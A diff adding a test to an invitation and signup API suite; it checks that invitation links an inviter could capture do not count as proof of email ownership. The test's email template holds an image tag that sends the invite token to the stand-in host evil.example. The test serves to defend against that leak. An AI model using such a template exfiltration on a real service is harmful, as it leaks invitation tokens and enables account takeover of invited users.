@@ -115,4 +115,60 @@ describe('accounts whose address nobody proved', () => {
       await smtp.close();
     }
   });
+
+  it('trusts no link its inviter could hold: resent without email while an email was queued, or mailed in their template', async () => {
+    const smtp = await startSmtpServer();
+    const delivery = deliveryFor(h, { smtpUrl: smtp.url });
+    const mallory = await h.user('mallory2@evil.example');
+    await h.call('POST', '/v1/organizations', { key: mallory.key, body: { slug: 'evil2', name: 'Evil 2' } });
+    const as = (email: string, password: string) => ({ key: null, headers: basic(email, password) });
+    try {
+      // (a) The email of the first send is still queued when the inviter resends without email
+      // and keeps the new link: the old email is not sent, and the new link proves nothing.
+      const queued = await h.call('POST', '/v1/organizations/evil2/invitations', {
+        key: mallory.key,
+        body: { email: 'cto@acme.test' },
+      });
+      const handed = await h.call('POST', `/v1/organizations/evil2/invitations/${queued.body.id}/resend`, {
+        key: mallory.key,
+        body: { send_email: false },
+      });
+      expect(handed.status).toBe(200);
+      await delivery.worker.drain();
+      expect(smtp.received.filter((mail) => mail.to === 'cto@acme.test')).toEqual([]);
+      const after = await h.call('GET', `/v1/organizations/evil2/invitations/${queued.body.id}`, {
+        key: mallory.key,
+      });
+      expect(after.body.delivery_state).toBe('not_sent');
+      await signUpFrom(new URL(handed.body.accept_url).searchParams.get('token')!, 'mallorys password');
+      const first = await h.call('GET', '/v1/me/invitations', as('cto@acme.test', 'mallorys password'));
+      expect([first.status, first.body.code]).toEqual([403, 'email_unverified']);
+
+      // (b) The organization's own template may send the link anywhere (an image on the
+      // inviter's server): a link mailed through it proves nothing either.
+      const template = await h.call('PUT', '/v1/organizations/evil2/email-templates/en', {
+        key: mallory.key,
+        body: {
+          subject: 'Join {{ organization.name }}',
+          html: '<a href="{{ accept_url }}">Join</a><img src="https://evil.example/p.gif?u={{ accept_url | url_encode }}">',
+          text: 'Join: {{ accept_url }}',
+        },
+      });
+      expect(template.status).toBe(201);
+      await h.call('POST', '/v1/organizations/evil2/invitations', {
+        key: mallory.key,
+        body: { email: 'cfo@acme.test' },
+      });
+      await delivery.worker.drain();
+      const leaked = new URL(linkIn(smtp.received.find((m) => m.to === 'cfo@acme.test')!)).searchParams.get(
+        'token',
+      )!;
+      await signUpFrom(leaked, 'mallorys password');
+      const second = await h.call('GET', '/v1/me/invitations', as('cfo@acme.test', 'mallorys password'));
+      expect([second.status, second.body.code]).toEqual([403, 'email_unverified']);
+    } finally {
+      await delivery.stop();
+      await smtp.close();
+    }
+  });
 });
